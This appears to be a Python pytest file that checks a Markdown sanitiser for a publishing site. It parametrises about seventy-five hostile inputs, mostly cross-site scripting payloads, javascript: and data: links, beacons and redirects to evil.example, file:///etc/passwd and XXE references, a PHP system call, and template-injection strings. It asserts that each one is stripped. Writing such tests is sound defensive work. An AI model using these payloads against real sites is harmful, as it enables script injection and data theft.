"""Texts in Markdown with everything in them that has ever run in a page: the site shows it, or drops it."""

# ruff: noqa: E501 (an input a line; an error that may come or not)
from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from markdown import Markdown

from polybrief.publish.handouts.safety import faults
from polybrief.publish.harmless import harmless

EXTENSIONS = ("abbr", "admonition", "attr_list", "def_list", "footnotes", "tables", "toc", "fenced_code")

# What it attacks: the Markdown.
CASES = {
    "script": "Text <script>alert(1)</script> text",
    "script-block": "<script>\nalert(1)\n</script>",
    "script-in-a-list-that-looks-like-code": "- ```\n  <script>alert(1)</script>\n  ```",
    "script-behind-a-backslash": "\\<script>alert(1)</script>",
    "script-in-an-indented-block": "1. a\n\n        <script>alert(1)</script>",
    "script-that-never-ends": "<script>alert(1)",
    "script-in-capitals": "<ScRiPt >alert(1)</sCrIpT\n>",
    "script-with-a-stroke": "<script/src=//evil.example/x.js></script>",
    "script-within-script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "image-that-fails": "<img src=x onerror=alert(1)>",
    "image-that-never-closes": "<img src=x onerror=alert(1)//",
    "image-elsewhere": "![a](https://evil.example/beacon.png)",
    "image-elsewhere-without-scheme": "![a](//evil.example/beacon.png)",
    "image-elsewhere-backslashes": "![a](/\\\\evil.example/beacon.png)",
    "image-of-data": "![a](data:image/svg+xml;base64,PHN2Zy8+)",
    "image-title-break-out": '![a](x.png "\\" onerror=alert(1) x=\\"")',
    "image-alt-break-out": '![" onerror="alert(1)](x.png)',
    "image-many-sizes": '<img srcset="https://evil.example/x 1x" src=x.png alt="">',
    "svg": "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
    "mathml": "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "frame": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "object": "<object data='javascript:alert(1)'></object><embed src='//evil.example'>",
    "form": "<form action='https://evil.example'><input name=q><button>Go</button></form>",
    "base": "<base href='https://evil.example/'>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "style": "<style>@import 'https://evil.example/x.css';</style>",
    "style-attribute": "*a*{: style=\"background:url(https://evil.example/x)\" }",
    "handler-by-attributes": "*a*{: onclick=alert(1) }",
    "handler-on-a-heading": "## A {: onmouseover=alert(1) }",
    "handler-on-a-cell": "| a | b |\n|---|---|\n| c {: onclick=alert(1) } | d |",
    "link-script": "[a](javascript:alert(1))",
    "link-script-in-capitals": "[a](JaVaScRiPt:alert(1))",
    "link-script-entity": "[a](javascript&#58;alert(1))",
    "link-script-entity-named": "[a](javascript&colon;alert(1))",
    "link-script-tab": "[a](java&#9;script:alert(1))",
    "link-script-control": "[a](&#1;javascript:alert(1))",
    "link-script-by-reference": "[a][b]\n\n[b]: javascript:alert(1)",
    "link-script-in-angles": "<javascript:alert(1)>",
    "link-vbscript": "[a](vbscript:msgbox(1))",
    "link-data": "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "link-file": "[a](file:///etc/passwd)",
    "link-title-break-out": "[a](x.md '\" onmouseover=\"alert(1)')",
    "link-address-by-attributes": "[a](x.md){: href=javascript:alert(1) }",
    "link-open-bracket": "[a](https://[::1)",
    "abbreviation-break-out": "*[HTML]: \" onmouseover=\"alert(1)\n\nHTML",
    "admonition-title": "!!! note \"<script>alert(1)</script>\"\n    text",
    "admonition-class": "!!! note\" onclick=\"alert(1)\n    text",
    "footnote-label": 'Text[^"><script>alert(1)</script>].\n\n[^"><script>alert(1)</script>]: Note.',
    "footnote-text": "Text[^a:1].\n\n[^a:1]: <script>alert(1)</script> [x](javascript:alert(1))",
    "fence-language": "``` \"><script>alert(1)</script>\nx\n```",
    "code-span": "`<script>alert(1)</script>`",
    "entity-that-becomes-markup": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "comment": "<!-- --!><script>alert(1)</script> -->",
    "conditional-comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "processing-instruction": "<?php system('id') ?>",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "doctype": "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "closing-the-frame": "</p></div></section></article></main></body></html><script>alert(1)</script>",
    "closing-the-notes": '</div><div class="footnote">evil</div>',
    "settings-of-the-frame": '<p id="__config">{"base": "https://evil.example"}</p>',
    "settings-of-the-frame-by-attributes": "## A {: #__config }",
    "drawings-from-elsewhere": "``` {.mermaid}\ngraph\n```\n\n*a*{: .mermaid .md-top }",
    "text-area": "<textarea></textarea><title></title><noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "template": "<template><script>alert(1)</script></template>",
    "custom-element": "<pagefind-modal onclick=alert(1)></pagefind-modal>",
    "link-that-opens-a-window": "<a href='https://a.example' target=_top ping='https://evil.example'>a</a>",
    "stash-marks": "\x02wzxhzdk:0\x03 \x02amp\x03 \x02klzzwxh:0001\x03",
    "nul": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "deep-quotes": "> " * 49 + "a",
    "deep-lists": "\n".join(f"{'    ' * n}- a" for n in range(80)),
    "half-open-tags": "<a " * 5000,
    "template-language": "{{ config.items() }} {% include '/etc/passwd' %} ${7*7} #{7*7}",
}  # fmt: skip


class Reader(HTMLParser):
    """What a browser would find in the HTML: elements, attributes, addresses."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: set[str] = set()
        self.attributes: set[str] = set()
        self.addresses: list[tuple[str, str]] = []
        self.open: list[str] = []
        self.words: set[str] = set()
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.add(tag)
        if tag not in ("br", "hr", "img", "col"):
            self.open.append(tag)
        for name, value in attrs:
            self.attributes.add(name)
            if name in ("href", "src"):
                self.addresses.append((tag, value or ""))
            if name in ("id", "class"):
                self.words |= set((value or "").split())

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_endtag(self, tag: str) -> None:
        # Nothing is closed that was not opened here.
        assert self.open.pop() == tag


def rendered(text: str) -> str:
    """The Markdown as the site renders it."""
    try:
        return Markdown(extensions=list(EXTENSIONS)).convert(text)
    except ValueError:
        # An address that is none: MkDocs ends its build with this error, the gate names the link before.
        return ""


@pytest.mark.parametrize("name", CASES)
def test_nothing_in_a_text_can_act(name: str) -> None:
    html = harmless(rendered(CASES[name]))
    page = Reader(html)
    assert not page.open
    assert faults(html) == ()
    assert not {
        at for at in page.attributes if at.startswith("on") or at in ("srcdoc", "srcset", "target", "ping")
    }
    assert not page.elements & {
        "script",
        "style",
        "iframe",
        "object",
        "embed",
        "form",
        "svg",
        "math",
        "meta",
        "base",
    }
    assert not {word for word in page.words if word.startswith(("__", "mermaid", "md-"))}
    for tag, address in page.addresses:
        parts = urlsplit(address)
        assert parts.scheme in ("", "http", "https", "mailto")
        assert tag == "a" or not parts.netloc


@pytest.mark.parametrize("name", CASES)
def test_what_is_harmless_stays_as_it_is(name: str) -> None:
    once = harmless(rendered(CASES[name]))
    assert harmless(once) == once


def test_a_brief_loses_nothing() -> None:
    text = (
        '## A heading {#its-anchor}\n\nOne *word* in **German**{: lang=de title="a = b" }, `a < b` & more.[^a:1]\n\n'
        "| Sum | Of |\n|----:|:---|\n| $5 | it |\n\n1. [here](../about.md)\n2. ![A ferry](../images/ferry.png)\n\n"
        '!!! note "A note"\n    Text.\n\n<https://example.org/?a=1&b=2>\n\n[^a:1]: “A title”, 2025.\n'
    )
    html = Markdown(extensions=list(EXTENSIONS)).convert(text)
    before, after = Reader(html), Reader(harmless(html))
    assert (before.elements, before.attributes) == (after.elements, after.attributes)
    assert before.addresses == after.addresses
